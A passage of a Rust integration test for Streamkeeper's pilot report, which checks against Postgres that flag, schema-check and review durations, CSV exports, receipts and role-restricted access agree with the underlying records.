//! The pilot against a real Postgres, from a scripted scenario through the
//! product's own paths: flags raised by the flags' lifecycle `raise` (lag on a
//! group, a FAILED connector), one dismissed by its owner through the API,
//! producer changes checked through the REST API the CLI uses in CI, one
//! proposed for review and approved (the registry double as registry). The
//! API shows exactly the durations those records hold, the CSV exports say
//! the same as the JSON, the first weeks' receipts list what Streamkeeper
//! would have done, and only managers and admins reach the pilot (a
//! viewer's attempt is refused and audited).

mod support;

use axum::http::{Method, StatusCode};
use chrono::{DateTime, Utc};
use serde_json::{Value, json};
use sqlx::PgPool;
use streamkeeper::accounts::role::Role;
use streamkeeper::flags::{FlagKey, Observation};
use streamkeeper::pilot::ScopeKind;
use streamkeeper::pilot::stats::human;
use streamkeeper_doubles::registry;
use streamkeeper_server::pilot::store;
use support::TestApp;

const V1: &str = r#"{"type":"record","name":"Order","fields":[{"name":"id","type":"string"},{"name":"amount","type":"double"}]}"#;
/// Drops `amount`: readers that need it break.
const DROPS_AMOUNT: &str =
    r#"{"type":"record","name":"Order","fields":[{"name":"id","type":"string"}]}"#;
const ADDS_NOTE: &str = r#"{"type":"record","name":"Order","fields":[{"name":"id","type":"string"},{"name":"amount","type":"double"},{"name":"note","type":["null","string"],"default":null}]}"#;

/// `local` (topic orders in domain payments, read by billing, owned by
/// payments; a connector s3 writing orders) and `elsewhere` (not in the
/// pilot). Returns (local id, elsewhere id, payments team id).
async fn world(pool: &PgPool) -> (i64, i64, i64) {
    let mut ids = Vec::new();
    for name in ["local", "elsewhere"] {
        let id: i64 = sqlx::query_scalar(
            "INSERT INTO clusters (name, bootstrap, security_protocol) VALUES ($1, '127.0.0.1:1', 'PLAINTEXT') RETURNING id",
        )
        .bind(name)
        .fetch_one(pool)
        .await
        .expect("cluster");
        sqlx::query(
            "INSERT INTO topics (cluster_id, name, partitions, first_seen, last_seen) VALUES ($1, 'orders', 1, now(), now())",
        )
        .bind(id)
        .execute(pool)
        .await
        .expect("topic");
        sqlx::query(
            "INSERT INTO consumer_groups (cluster_id, name, state, members, topics, first_seen, last_seen)
             VALUES ($1, 'billing', 'Empty', 0, ARRAY['orders'], now() - interval '1 day', now())",
        )
        .bind(id)
        .execute(pool)
        .await
        .expect("group");
        ids.push(id);
    }
    let team: i64 = sqlx::query_scalar("INSERT INTO teams (name) VALUES ('payments') RETURNING id")
        .fetch_one(pool)
        .await
        .expect("team");
    sqlx::query("UPDATE consumer_groups SET owner_team_id = $1")
        .bind(team)
        .execute(pool)
        .await
        .expect("owner");
    sqlx::query(
        "INSERT INTO streams (cluster_id, topic, owner_team_id, domain) VALUES ($1, 'orders', $3, 'payments'),
                ($2, 'orders', $3, 'ledger')",
    )
    .bind(ids[0])
    .bind(ids[1])
    .bind(team)
    .execute(pool)
    .await
    .expect("streams");
    let connect: i64 = sqlx::query_scalar(
        "INSERT INTO connect_clusters (cluster_id, name, url) VALUES ($1, 'main', 'http://127.0.0.1:1') RETURNING id",
    )
    .bind(ids[0])
    .fetch_one(pool)
    .await
    .expect("connect");
    sqlx::query(
        "INSERT INTO connectors (connect_id, name, kind, state, config, config_hash, topics)
         VALUES ($1, 's3', 'sink', 'FAILED', '{}', 'x', ARRAY['orders'])",
    )
    .bind(connect)
    .execute(pool)
    .await
    .expect("connector");
    (ids[0], ids[1], team)
}

/// Raises a flag as a pass does, to the payments team (no webhook: the
/// in-app list is the notification, from when a member sees it there), its
/// trouble begun `ago` before now.
async fn raise(
    pool: &PgPool,
    cluster: i64,
    team: i64,
    key: FlagKey,
    kind: &str,
    ago: chrono::Duration,
    evidence: Value,
) {
    let row = streamkeeper_server::watch::store::by_id(pool, cluster)
        .await
        .expect("read")
        .expect("cluster");
    let o = Observation {
        key,
        kind: kind.into(),
        reason: format!("{kind} for a while"),
        onset_ms: (Utc::now() - ago).timestamp_millis(),
        evidence,
    };
    streamkeeper_server::flags::lifecycle::raise(
        pool,
        row.id,
        &row.name,
        &o,
        Some((team, "payments".into(), None)),
    )
    .await
    .expect("raise");
}

/// A member of `team` sees its flags in the app list (what the flags'
/// list records for its viewer's teams).
async fn seen(pool: &PgPool, team: i64) {
    let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM flags WHERE team_id = $1")
        .bind(team)
        .fetch_all(pool)
        .await
        .expect("flags");
    streamkeeper_server::flags::store::mark_seen(pool, &ids, &[team])
        .await
        .expect("seen");
}

fn group_key(rule: &str) -> FlagKey {
    FlagKey {
        subject_kind: "group".into(),
        subject: "billing".into(),
        rule: rule.into(),
    }
}

/// The durations the records hold, in ms, for one metric's SQL.
async fn durations(pool: &PgPool, sql: &str) -> Vec<(String, i64)> {
    let rows: Vec<(String, DateTime<Utc>, DateTime<Utc>)> =
        sqlx::query_as(sql).fetch_all(pool).await.expect("records");
    let mut v: Vec<(String, i64)> = rows
        .into_iter()
        .map(|(r, s, e)| (r, (e - s).num_milliseconds()))
        .collect();
    v.sort();
    v
}

/// The URL of this test's own database.
fn url_of(pool: &PgPool) -> String {
    let base = std::env::var("DATABASE_URL").expect("DATABASE_URL for tests");
    let db = pool
        .connect_options()
        .get_database()
        .unwrap_or("postgres")
        .to_string();
    let mut u = url::Url::parse(&base).expect("DATABASE_URL");
    u.set_path(&db);
    u.to_string()
}

/// The binary with none of the environment's settings but this database.
fn streamkeeper(pool: &PgPool, args: &[&str]) -> std::process::Output {
    let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_streamkeeper"));
    for var in [
        "STREAMKEEPER_BIND",
        "STREAMKEEPER_AUDIT_KEY",
        "STREAMKEEPER_PUBLIC_URL",
    ] {
        c.env_remove(var);
    }
    c.env("DATABASE_URL", url_of(pool))
        .args(args)
        .output()
        .expect("run")
}

fn csv_rows(body: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut r = csv::Reader::from_reader(body.as_bytes());
    let headers = r.headers().expect("headers").clone();
    r.records()
        .map(|rec| {
            let rec = rec.expect("record");
            headers
                .iter()
                .zip(rec.iter())
                .map(|(h, v)| (h.to_string(), v.to_string()))
                .collect()
        })
        .collect()
}

#[sqlx::test(migrator = "streamkeeper_server::platform::db::MIGRATOR")]
async fn the_pilot_shows_exactly_the_durations_of_its_records(pool: PgPool) {
    let t = TestApp::new(pool.clone()).await;
    let (local, elsewhere, team) = world(&pool).await;
    let admin = t.user("ada", &[Role::Admin]).await;
    let manager = t.user("meg", &[Role::Manager]).await;
    let viewer = t.user("vic", &[Role::Viewer]).await;
    let owner = t.user("olga", &[Role::Owner]).await;
    let approver = t.user("ann", &[Role::Approver]).await;
    sqlx::query("INSERT INTO memberships (team_id, user_id) VALUES ($1, $2)")
        .bind(team)
        .bind(owner)
        .execute(&pool)
        .await
        .expect("member");
    let (at, mt, vt, ot, apt) = (
        t.token(admin).await,
        t.token(manager).await,
        t.token(viewer).await,
        t.token(owner).await,
        t.token(approver).await,
    );

    // Before it is set up: the settings are the defaults, the page says how.
    let r = t
        .api(Method::GET, "/api/v1/pilot/settings", &mt, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["set_up"], false);
    assert_eq!(r.json()["baselines"][0]["ms"], 7_200_000);
    let r = t.api(Method::GET, "/api/v1/pilot", &mt, None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.body);

    // A baseline needs a note on where it came from.
    let started = (Utc::now() - chrono::Duration::days(9)).date_naive();
    let mut input = json!({
        "scope_kind": "domains",
        "scope": ["payments"],
        "started_on": started,
        "baselines": [{"metric": "lag_flagged", "ms": 5_400_000, "note": " "}],
    });
    let r = t
        .api(
            Method::PUT,
            "/api/v1/pilot/settings",
            &mt,
            Some(input.clone()),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    // Without its note at all, the same: 422, not the JSON decoder's 400.
    let mut no_note = input.clone();
    no_note["baselines"][0] = json!({"metric": "lag_flagged", "ms": 5_400_000});
    let r = t
        .api(Method::PUT, "/api/v1/pilot/settings", &mt, Some(no_note))
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(r.body.contains("say where the"), "{}", r.body);
    input["baselines"][0]["note"] = json!("median of the Q3 on-call tickets");
    let r = t
        .api(
            Method::PUT,
            "/api/v1/pilot/settings",
            &mt,
            Some(input.clone()),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let s = r.json();
    assert_eq!(s["set_up"], true);
    assert_eq!(s["scope"], json!(["payments"]));
    assert_eq!(s["baselines"][0]["ms"], 5_400_000);
    assert_eq!(
        s["baselines"][1]["ms"], 28_800_000,
        "the rest keep their defaults"
    );

    // The day tally taken over the pilot as set: from here on the records
    // below reach it only through its triggers, in their own transactions.
    store::fresh(&pool).await.expect("tally");

    // The scenario. Lag on billing, twice (two rules), and once on the
    // cluster outside the pilot; a FAILED connector; billing's owner
    // dismisses one lag flag as wrong.
    raise(
        &pool,
        local,
        team,
        group_key("lag"),
        "STOP",
        chrono::Duration::minutes(9),
        json!({}),
    )
    .await;
    raise(
        &pool,
        local,
        team,
        group_key("time-lag"),
        "WARN",
        chrono::Duration::minutes(31),
        json!({}),
    )
    .await;
    raise(
        &pool,
        elsewhere,
        team,
        group_key("lag"),
        "STOP",
        chrono::Duration::hours(5),
        json!({}),
    )
    .await;
    let restart = json!({"method": "POST", "url": "http://127.0.0.1:1/connectors/s3/restart"});
    raise(
        &pool,
        local,
        team,
        streamkeeper::connect::status::flag_key("main", "s3"),
        "FAILED",
        chrono::Duration::minutes(2),
        json!({"restart": restart}),
    )
    .await;
    // The team has no webhook: its member has the flags when she lists them.
    let r = t.api(Method::GET, "/api/v1/flags", &ot, None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let dismissed: i64 = sqlx::query_scalar(
        "SELECT f.id FROM flags f WHERE f.cluster_id = $1 AND f.rule = 'time-lag'",
    )
    .bind(local)
    .fetch_one(&pool)
    .await
    .expect("flag");
    let r = t
        .api(
            Method::POST,
            &format!("/api/v1/flags/{dismissed}/dismiss"),
            &ot,
            Some(json!({"reason": "expected during the migration", "dismissal": "wrong"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);

    // Producer changes checked through the API (as `schema check` in CI
    // does): one breaking, one not.
    let r = t
        .api(
            Method::PUT,
            &format!("/api/v1/clusters/{local}/streams/orders/schema"),
            &at,
            Some(json!({"schema_type": "AVRO", "schema": V1})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let check = format!("/api/v1/clusters/{local}/streams/orders/compatibility");
    for (schema, verdict) in [(DROPS_AMOUNT, "INCOMPATIBLE"), (ADDS_NOTE, "COMPATIBLE")] {
        let r = t
            .api(
                Method::POST,
                &check,
                &vt,
                Some(json!({"schema_type": "AVRO", "schema": schema})),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        assert_eq!(r.json()["verdict"], verdict, "{}", r.body);
    }

    // A producer change proposed for review at suggest, approved by ann.
    let (base, _registry) = registry::spawn().await;
    let r = t
        .api(
            Method::PUT,
            &format!("/api/v1/clusters/{local}/registry"),
            &at,
            Some(json!({"url": base})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let r = t
        .api(
            Method::PUT,
            "/api/v1/review-domains/payments",
            &at,
            Some(json!({"autonomy": "suggest", "required_approvals": 1,
                        "approver_users": ["ann"], "approver_teams": []})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let r = t
        .api(
            Method::POST,
            "/api/v1/review-items",
            &ot,
            Some(
                json!({"kind": "producer_change", "cluster_id": local, "topic": "orders",
                        "schema_type": "AVRO", "schema": ADDS_NOTE}),
            ),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let item = r.json();
    let r = t
        .in_person(
            &format!("/api/v1/review-items/{}/approvals", item["id"]),
            &apt,
            json!({"content_hash": item["content_hash"]}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);

    // What the records say, read straight from them.
    let lag = durations(
        &pool,
        &format!(
            "SELECT 'flag:' || id, onset_at, seen_at FROM flags
              WHERE cluster_id = {local} AND subject_kind = 'group'"
        ),
    )
    .await;
    assert_eq!(lag.len(), 2);
    let checks = durations(
        &pool,
        "SELECT 'check:' || id, submitted_at, decided_at FROM compatibility_checks",
    )
    .await;
    assert!(checks.len() >= 2, "{checks:?}");
    let reviewed = durations(
        &pool,
        "SELECT 'review-item:' || id, created_at, approved_at FROM review_items WHERE state = 'approved'",
    )
    .await;
    assert_eq!(reviewed.len(), 1, "the approval is recorded with its time");

    let r = t.api(Method::GET, "/api/v1/pilot", &mt, None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let page = r.json();
    let report = &page["report"];
    assert_eq!(report["day"], 10, "{report}");
    let row = |m: &str| -> Value {
        report["table"]
            .as_array()
            .and_then(|t| t.iter().find(|r| r["metric"] == m))
            .cloned()
            .unwrap_or_else(|| panic!("no {m} row: {report}"))
    };
    let mut lag_ms: Vec<i64> = lag.iter().map(|(_, ms)| *ms).collect();
    lag_ms.sort_unstable();
    let flagged = row("lag_flagged");
    assert_eq!(flagged["baseline_ms"], 5_400_000);
    assert_eq!(flagged["baseline_note"], "median of the Q3 on-call tickets");
    assert_eq!(flagged["now"]["events"], 2);
    assert_eq!(flagged["now"]["p50_ms"], lag_ms[0], "{flagged}");
    assert_eq!(flagged["now"]["p90_ms"], lag_ms[1], "{flagged}");
    assert!(
        (9 * 60_000..10 * 60_000).contains(&lag_ms[0]),
        "onset 9 min before it was raised and shown: {lag_ms:?}"
    );
    let ratio = flagged["now"]["ratio_p50"].as_f64().expect("ratio");
    assert!(
        (ratio - lag_ms[0] as f64 / 5_400_000.0).abs() < 1e-12,
        "{ratio}"
    );
    assert_eq!(flagged["now"]["few"], true);
    assert_eq!(flagged["now"]["note"], "rests on 2 events (fewer than 5)");
    let mut check_ms: Vec<i64> = checks.iter().map(|(_, ms)| *ms).collect();
    check_ms.sort_unstable();
    // Nearest rank: the ⌈p·n⌉-th smallest.
    let rank = |v: &[i64], p: usize| v[(p * v.len()).div_ceil(100) - 1];
    let checked = row("change_checked");
    assert_eq!(checked["now"]["events"], checks.len());
    assert_eq!(checked["now"]["p50_ms"], rank(&check_ms, 50));
    assert_eq!(checked["now"]["p90_ms"], rank(&check_ms, 90));
    let through_review = row("change_reviewed");
    assert_eq!(through_review["now"]["events"], 1);
    assert_eq!(through_review["now"]["p50_ms"], reviewed[0].1);
    assert_eq!(
        through_review["now"]["note"],
        "rests on 1 event (fewer than 5)"
    );
    assert_eq!(checked["baseline_ms"], 28_800_000);
    assert_eq!(row("lineage_answered")["now"]["note"], "no events");

    // The tally the triggers kept is the one rebuilt from the records, and
    // its durations are the events the CSV lists, one for one.
    assert!(
        sqlx::query_scalar::<_, bool>("SELECT fresh FROM pilot_tally_state")
            .fetch_one(&pool)
            .await
            .expect("state"),
        "nothing in the scenario changed the scope: the triggers kept the tally"
    );
    let scope = vec!["payments".to_string()];
    let within = store::Within {
        kind: ScopeKind::Domains,
        scope: &scope,
        from: started.and_time(chrono::NaiveTime::MIN).and_utc(),
    };
    let now = Utc::now();
    let kept = store::tally(&pool, &within, now).await.expect("kept");
    store::rebuild(&pool).await.expect("rebuild");
    let rebuilt = store::tally(&pool, &within, now).await.expect("rebuilt");
    let mut kept_sorted = kept.clone();
    let mut rebuilt_sorted = rebuilt.clone();
    for t in [&mut kept_sorted, &mut rebuilt_sorted] {
        t.durations.values_mut().for_each(|v| v.sort_unstable());
    }
    assert_eq!(kept_sorted, rebuilt_sorted);
    assert!(!kept.durations.is_empty() && !kept.counts.is_empty());
    let mut from_events: std::collections::BTreeMap<_, Vec<i64>> = Default::default();
    for e in store::timed(&pool, &within, now).await.expect("events") {
        from_events
            .entry((e.started_at.date_naive(), e.metric))
            .or_default()
            .push(e.ms());
    }
    from_events.values_mut().for_each(|v| v.sort_unstable());
    assert_eq!(kept_sorted.durations, from_events);
    // The weeks: the pilot's second week holds them all.
    let weeks = report["weeks"].as_array().expect("weeks");
    assert_eq!(weeks.len(), 2, "{report}");
    assert_eq!(weeks[0]["figures"]["lag_flagged"]["events"], 0);
    assert_eq!(weeks[1]["figures"]["lag_flagged"]["events"], 2);
    // The counts: flags raised in the pilot's domain (the other cluster's
    // is in ledger), the dismissal with its reason, the breaking check.
    let counts = &report["counts"];
    assert_eq!(counts["flags_raised"], 3, "{counts}");
    assert_eq!(counts["flags_dismissed"], 1, "{counts}");
    assert_eq!(counts["flags_acknowledged"], 0, "{counts}");
    assert_eq!(counts["checks_breaking"], 1, "{counts}");
    assert_eq!(counts["changes_applied"], 0, "{counts}");
    assert_eq!(counts["connector_restarts"], 0, "{counts}");
    assert_eq!(page["dismissed"][0]["flag_id"], dismissed);
    assert_eq!(
        page["dismissed"][0]["reason"],
        "expected during the migration"
    );
    assert_eq!(page["dismissed"][0]["by"], "olga");

    // The CSV of the table says what the JSON says.
    let r = t
        .api(Method::GET, "/api/v1/pilot/table.csv", &mt, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let table = csv_rows(&r.body);
    let json_table = report["table"].as_array().expect("table");
    assert_eq!(table.len(), json_table.len());
    let text = |v: &Value| match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    for (c, j) in table.iter().zip(json_table) {
        assert_eq!(c["metric"], text(&j["metric"]));
        assert_eq!(c["baseline_ms"], text(&j["baseline_ms"]));
        assert_eq!(c["baseline_note"], text(&j["baseline_note"]));
        assert_eq!(c["p50_ms"], text(&j["now"]["p50_ms"]), "{c:?}");
        assert_eq!(c["p90_ms"], text(&j["now"]["p90_ms"]), "{c:?}");
        assert_eq!(c["events"], text(&j["now"]["events"]));
        assert_eq!(c["note"], text(&j["now"]["note"]));
        let ratio = |s: &str| s.parse::<f64>().ok();
        assert_eq!(
            ratio(&c["ratio_p50"]),
            j["now"]["ratio_p50"].as_f64(),
            "{c:?}"
        );
    }
    // And the events' CSV lists exactly the records' durations.
    let r = t
        .api(Method::GET, "/api/v1/pilot/events.csv", &mt, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let mut events: Vec<(String, String, i64)> = csv_rows(&r.body)
        .into_iter()
        .map(|e| {
            (
                e["metric"].clone(),
                e["reference"].clone(),
                e["duration_ms"].parse().expect("ms"),
            )
        })
        .collect();
    events.sort();
    let mut expected: Vec<(String, String, i64)> = checks
        .iter()
        .map(|(r, ms)| ("change_checked".to_string(), r.clone(), *ms))
        .chain(
            lag.iter()
                .map(|(r, ms)| ("lag_flagged".to_string(), r.clone(), *ms)),
        )
        .chain(
            reviewed
                .iter()
                .map(|(r, ms)| ("change_reviewed".to_string(), r.clone(), *ms)),
        )
        .collect();
    expected.sort();
    assert_eq!(events, expected);

    // The first weeks' receipts: payments is at suggest (nobody set it),
    // so the flags it raised, the change it would have blocked and the
    // restart it would have made are listed with their records.
    let r = t
        .api(Method::GET, "/api/v1/pilot/receipts", &mt, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let receipts = r.json();
    assert_eq!(receipts["total"], 5, "{receipts}");
    let items = receipts["items"].as_array().expect("items");
    let would = |w: &str| items.iter().filter(|i| i["would"] == w).count();
    assert_eq!(
        (would("flag"), would("block"), would("restart")),
        (3, 1, 1),
        "{receipts}"
    );
    assert!(
        items
            .iter()
            .all(|i| i["domain"] == "payments" && i["autonomy"] == "suggest")
    );
    let restart_receipt = items
        .iter()
        .find(|i| i["would"] == "restart")
        .expect("restart");
    assert_eq!(restart_receipt["evidence"]["request"], restart);
    assert_eq!(restart_receipt["subject"], "main/s3");
    let block = items.iter().find(|i| i["would"] == "block").expect("block");
    assert_eq!(block["evidence"]["verdict"], "INCOMPATIBLE", "{block}");
    // Paged on the server, newest first.
    let r = t
        .api(
            Method::GET,
            "/api/v1/pilot/receipts?per_page=2&page=3",
            &mt,
            None,
        )
        .await;
    let last = r.json();
    assert_eq!(last["items"].as_array().map(Vec::len), Some(1), "{last}");
    assert_eq!(last["items"][0]["at"], items[4]["at"]);
    // Once the domain acts on approval, its receipts are no longer "would have".
    let r = t
        .api(
            Method::PUT,
            "/api/v1/review-domains/payments",
            &at,
            Some(
                json!({"autonomy": "act_after_approval", "required_approvals": 1,
                        "approver_users": ["ann"], "approver_teams": []}),
            ),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let r = t
        .api(Method::GET, "/api/v1/pilot/receipts", &mt, None)
        .await;
    assert_eq!(r.json()["total"], 0, "{}", r.body);

    // An admin reads it too; a viewer reaches none of it, and each
    // attempt is on the record.
    let r = t.api(Method::GET, "/api/v1/pilot", &at, None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    for (method, path) in [
        (Method::GET, "/api/v1/pilot/settings"),
        (Method::GET, "/api/v1/pilot"),
        (Method::GET, "/api/v1/pilot/table.csv"),
        (Method::GET, "/api/v1/pilot/receipts"),
    ] {
        let r = t.api(method, path, &vt, None).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{path}: {}", r.body);
    }
    let r = t
        .api(Method::PUT, "/api/v1/pilot/settings", &vt, Some(input))
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    let refused: Vec<(String, String)> = sqlx::query_as(
        "SELECT actor, action FROM audit_log WHERE action LIKE 'pilot.%' ORDER BY id",
    )
    .fetch_all(&pool)
    .await
    .expect("audit");
    let by = |actor: &str, action: &str| {
        refused
            .iter()
            .filter(|(a, x)| a == actor && x == action)
            .count()
    };
    assert_eq!(by("meg", "pilot.set"), 1, "{refused:?}");
    assert_eq!(by("vic", "pilot.read.refused"), 4, "{refused:?}");
    assert_eq!(by("vic", "pilot.set.refused"), 1, "{refused:?}");
    assert_eq!(
        refused
            .iter()
            .filter(|(_, x)| x == "request.refused")
            .count(),
        0,
        "recorded once, by the pilot"
    );

    // The manager's page as the browser gets it with JavaScript off: the
    // table holds the records' exact durations, each chart has a point per
    // week with its figure in its title, and the CSV says what the page says.
    let meg = t
        .login("meg", support::PASSWORD)
        .await
        .expect("meg signs in");
    let r = t.get("/pilot", Some(&meg)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let html = r.body;
    let lag_row = between(&html, r#"<tr data-metric="lag_flagged">"#, "</tr>");
    for (class, ms) in [("p50", lag_ms[0]), ("p90", lag_ms[1])] {
        assert!(
            lag_row.contains(&format!(r#"data-ms="{ms}" class="{class}""#)),
            "{class} {ms}: {lag_row}"
        );
    }
    assert!(lag_row.contains(&human(lag_ms[0])), "{lag_row}");
    // Before → now as people say it, not a bare ratio.
    let said = streamkeeper::pilot::ratio::said(5_400_000, Some(lag_ms[0]));
    assert!(
        said.contains("× faster") && lag_row.contains(&said),
        "{said}: {lag_row}"
    );
    assert!(lag_row.contains("rests on 2 events (fewer than 5)"));
    assert!(lag_row.contains("median of the Q3 on-call tickets"));
    let reviewed_row = between(&html, r#"<tr data-metric="change_reviewed">"#, "</tr>");
    assert!(
        reviewed_row.contains(&format!(r#"data-ms="{}" class="p50""#, reviewed[0].1)),
        "{reviewed_row}"
    );
    let chart = between(
        &html,
        r#"<figure data-metric="lag_flagged" class="chart pilot-chart">"#,
        "</figure>",
    );
    assert_eq!(
        chart.matches(r#"<g data-week=""#).count(),
        2,
        "a point per week: {chart}"
    );
    let week2 = between(chart, r#"data-week="2""#, "</g>");
    assert!(
        week2.contains(&format!("p50 {}", human(lag_ms[0]))),
        "{week2}"
    );
    assert!(week2.contains(&format!("p90 {}", human(lag_ms[1]))));
    assert!(week2.contains("rests on 2 events (fewer than 5)"));
    assert!(
        week2.contains(r#"class="point few p50""#),
        "few: hollow: {week2}"
    );
    assert!(between(chart, r#"data-week="1""#, "</g>").contains("no events"));
    let r = t.get("/api/v1/pilot/table.csv", Some(&meg)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    for c in csv_rows(&r.body) {
        let row = between(
            &html,
            &format!(r#"<tr data-metric="{}">"#, c["metric"]),
            "</tr>",
        );
        assert!(
            row.contains(&format!(r#"data-events="{}""#, c["events"])),
            "{c:?}: {row}"
        );
        let p50 = match c["p50_ms"].as_str() {
            "" => r#"<td class="p50">"#.to_string(),
            ms => format!(r#"data-ms="{ms}" class="p50""#),
        };
        assert!(row.contains(&p50), "{c:?}: {row}");
        assert!(row.contains(&c["baseline"]), "{c:?}: {row}");
    }
    // Each domain's level and review record: payments acts after approval
    // now, with ann's approval and olga's dismissal.
    let domain = between(&html, r#"<tr data-domain="payments">"#, "</tr>");
    let cells: Vec<String> = domain
        .split("<td>")
        .skip(1)
        .map(|c| c.split('<').next().unwrap_or_default().to_string())
        .collect();
    assert_eq!(
        cells,
        ["payments", "act after approval", "1", "0", "1"],
        "{domain}"
    );
    assert!(html.contains("expected during the migration"));
    assert!(html.contains(r#"href="/api/v1/pilot/events.csv""#));

    // The settings form, posted without JavaScript: a baseline changed
    // without a note is refused, with one it is saved.
    let day1 = started.to_string();
    let settings_form = |note: &str| -> Vec<(String, String)> {
        let mut f = vec![
            ("scope_kind".to_string(), "domains".to_string()),
            ("scope".into(), "payments".into()),
            ("started_on".into(), day1.clone()),
            ("lag_flagged_minutes".into(), "60".into()),
            ("lag_flagged_note".into(), note.into()),
        ];
        for m in [
            "change_checked",
            "change_reviewed",
            "lineage_answered",
            "lineage_notified",
        ] {
            f.push((format!("{m}_minutes"), String::new()));
            f.push((format!("{m}_note"), String::new()));
        }
        f
    };
    let post = |who: String, form: Vec<(String, String)>| {
        let t = &t;
        async move {
            let form: Vec<(&str, &str)> =
                form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            t.post_form("/fn/set_pilot", Some(&who), &form).await
        }
    };
    post(meg.clone(), settings_form("")).await;
    let lag_baseline = || async {
        sqlx::query_as::<_, (i64, String)>(
            "SELECT ms, note FROM pilot_baselines WHERE metric = 'lag_flagged'",
        )
        .fetch_one(&pool)
        .await
        .expect("baseline")
    };
    assert_eq!(lag_baseline().await.0, 5_400_000, "no note: not saved");
    post(meg.clone(), settings_form("the on-call survey")).await;
    assert_eq!(
        lag_baseline().await,
        (3_600_000, "the on-call survey".to_string())
    );
    let r = t.get("/settings/pilot", Some(&meg)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(
        r.body
            .contains(r#"name="lag_flagged_minutes" type="number" min="1" required value="60""#),
        "{}",
        r.body
    );

    // The manager reads the pilot and changes nothing else: not a domain's
    // level, by the browser's form or by the API.
    let form = [
        ("domain", "payments"),
        ("autonomy", "autonomous"),
        ("required_approvals", "1"),
        ("approver_users", ""),
        ("approver_teams", ""),
    ];
    t.post_form("/fn/set_review_domain", Some(&meg), &form)
        .await;
    let r = t
        .api(
            Method::PUT,
            "/api/v1/review-domains/payments",
            &mt,
            Some(json!({"autonomy": "autonomous", "required_approvals": 1,
                        "approver_users": [], "approver_teams": []})),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    let level: String =
        sqlx::query_scalar("SELECT autonomy FROM review_domains WHERE domain = 'payments'")
            .fetch_one(&pool)
            .await
            .expect("level");
    assert_eq!(level, "act_after_approval");
    let r = t.get("/settings/users", Some(&meg)).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);

    // A viewer reaches neither page nor the form, and each attempt is on
    // the record as the API's are.
    let vic = t
        .login("vic", support::PASSWORD)
        .await
        .expect("vic signs in");
    for path in ["/settings/pilot", "/pilot"] {
        let r = t.get(path, Some(&vic)).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{path}: {}", r.body);
        assert!(
            r.body.contains("You are not allowed to read the pilot"),
            "{path}"
        );
    }
    post(vic.clone(), settings_form("mine")).await;
    let refused: Vec<String> = sqlx::query_scalar(
        "SELECT action FROM audit_log WHERE actor = 'vic' AND action LIKE 'pilot.%' ORDER BY id",
    )
    .fetch_all(&pool)
    .await
    .expect("audit");
    let n = |a: &str| refused.iter().filter(|x| *x == a).count();
    assert_eq!(
        (n("pilot.read.refused"), n("pilot.set.refused")),
        (6, 2),
        "{refused:?}"
    );
    assert_eq!(
        lag_baseline().await,
        (3_600_000, "the on-call survey".to_string()),
        "the viewer changed nothing"
    );

    // Removing the pilot's cluster keeps what the pilot reads: its flags,
    // checks and review items stay, and the figures and exports are the same.
    let figures = || async {
        let report = t.api(Method::GET, "/api/v1/pilot", &mt, None).await;
        assert_eq!(report.status, StatusCode::OK, "{}", report.body);
        let table = t
            .api(Method::GET, "/api/v1/pilot/table.csv", &mt, None)
            .await;
        let events = t
            .api(Method::GET, "/api/v1/pilot/events.csv", &mt, None)
            .await;
        (report.json()["report"].clone(), table.body, events.body)
    };
    let kept = || async {
        sqlx::query_as::<_, (i64, i64, i64)>(
            "SELECT (SELECT count(*) FROM flags WHERE cluster_id = $1),
                    (SELECT count(*) FROM review_items WHERE cluster_id = $1),
                    (SELECT count(*) FROM compatibility_checks WHERE cluster_id = $1)",
        )
        .bind(local)
        .fetch_one(&pool)
        .await
        .expect("counts")
    };
    let (before, had) = (figures().await, kept().await);
    assert!(had.0 > 0 && had.1 > 0 && had.2 > 0, "{had:?}");
    let item_path = format!("/api/v1/review-items/{}", item["id"]);
    let r = t.api(Method::GET, &item_path, &at, None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let r = t
        .api(
            Method::DELETE,
            &format!("/api/v1/clusters/{local}"),
            &at,
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.body);
    let r = t
        .api(Method::GET, &format!("/api/v1/clusters/{local}"), &at, None)
        .await;
